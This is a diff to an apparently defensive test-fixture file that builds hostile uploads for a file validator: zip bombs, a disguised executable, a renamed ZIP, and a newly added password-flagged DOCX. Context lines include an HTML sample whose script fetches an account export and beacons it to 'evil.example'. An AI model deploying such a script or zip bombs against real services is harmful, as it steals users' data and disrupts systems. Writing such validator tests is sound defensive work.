@@ -89,6 +89,17 @@ def zip_bomb_nested_dense() -> bytes:
     return _docx(word__embeddings__sheet1__xlsx=sheet)
 
 
+def locked_docx() -> bytes:
+    """A DOCX whose parts say they are encrypted (a password-locked ZIP)."""
+    data = bytearray(_docx())
+    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        start = data.find(signature)
+        while start != -1:
+            data[start + flags_at] |= 0x01
+            start = data.find(signature, start + 4)
+    return bytes(data)
+
+
 HTML = (
     b"<!DOCTYPE html><html><body><script>fetch('/account/export')"
     b".then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))"
@@ -104,6 +115,7 @@ NOT_A_TYPE = "isn't a file type we accept"
 WEB_CODE = "has web page code (HTML or script) inside it"
 TWO_IN_ONE = "is two files in one"
 BOMB = "would unpack to far more than its size"
+LOCKED = "is locked with a password or packed in a way we can't read"
 HUGE_IMAGE = "is an image of more than 100 million pixels"
 
 
@@ -131,6 +143,7 @@ def hostile() -> list[Sample]:
         Sample("zip-bomb", "plan.docx", zip_bomb_dense(), BOMB),
         Sample("zip-bomb-nested", "plan.docx", zip_bomb_nested(), BOMB),
         Sample("zip-bomb-nested-dense", "plan.docx", zip_bomb_nested_dense(), BOMB),
+        Sample("locked-docx", "plan.docx", locked_docx(), LOCKED),
         Sample("exe-named-pdf", "lesson.pdf", b"MZ\x90\x00" + bytes(60), NOT_A_TYPE),
         Sample("plain-zip", "archive.docx", JAR, NOT_A_TYPE),
     ]
